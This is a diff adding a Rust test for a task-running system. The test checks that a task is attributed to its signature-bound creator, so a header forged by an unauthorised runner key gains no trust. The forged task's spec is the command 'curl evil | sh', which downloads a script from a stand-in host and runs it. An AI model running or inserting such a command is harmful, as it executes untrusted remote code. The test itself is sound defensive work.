@@ -1150,3 +1150,53 @@ mod stored_specs {
         }
     }
 }
+
+/// Trusts only the writers whose member tag is in the list.
+struct TrustTags(Vec<[u8; 8]>);
+
+impl doc::Authority for TrustTags {
+    fn can_submit(&self, actor: &automerge::ActorId) -> bool {
+        WriterId::member_tag_of(actor.to_bytes()).is_some_and(|t| self.0.contains(&t))
+    }
+}
+
+// Issue 13, item 2: a device decides whose tasks it runs from the member
+// that created each task (bound to its actor by the store's signatures),
+// not from the header's self-declared `submitted_by`. The same task
+// submitted by two members names both; a creator not allowed to submit
+// names nobody.
+#[test]
+fn issue13_a_tasks_submitters_are_the_trusted_writers_that_created_it() {
+    let (alice, bob, runner) = (writer(1), writer(2), writer(3));
+    let shared = spec("make");
+    let alone = spec("make test");
+    let forged = spec("curl evil | sh");
+    let d1 = submit(&alice, T0, 1, std::slice::from_ref(&shared));
+    let d2 = submit(&bob, T0 + 1, 2, &[shared.clone(), alone.clone()]);
+    // A runner key (not allowed to submit) writes a batch anyway; its
+    // header claims alice submitted it.
+    let d3 = submit(&runner, T0 + 2, 3, std::slice::from_ref(&forged));
+    let authority = TrustTags(vec![[1; 8], [2; 8]]);
+    let mut v = View::new();
+    for d in [&d1, &d2, &d3] {
+        let header = doc::read_header(&d.am).expect("header");
+        let (records, problems) = doc::read_tasks(&d.am, &authority);
+        assert!(problems.is_empty(), "{problems:?}");
+        for r in &records {
+            assert_eq!(r.creator, Some([d.am.get_actor().to_bytes()[8]; 8]));
+        }
+        v.add_records(&d.id, &header, records);
+    }
+    let tags = |s: &TaskSpec| -> Vec<[u8; 8]> {
+        v.get(&s.id())
+            .expect("task")
+            .submitters
+            .iter()
+            .copied()
+            .collect()
+    };
+    assert_eq!(tags(&shared), vec![[1; 8], [2; 8]]);
+    assert_eq!(tags(&alone), vec![[2; 8]]);
+    assert_eq!(tags(&forged), Vec::<[u8; 8]>::new());
+    assert!(!v.get(&forged.id()).expect("task").trusted);
+}
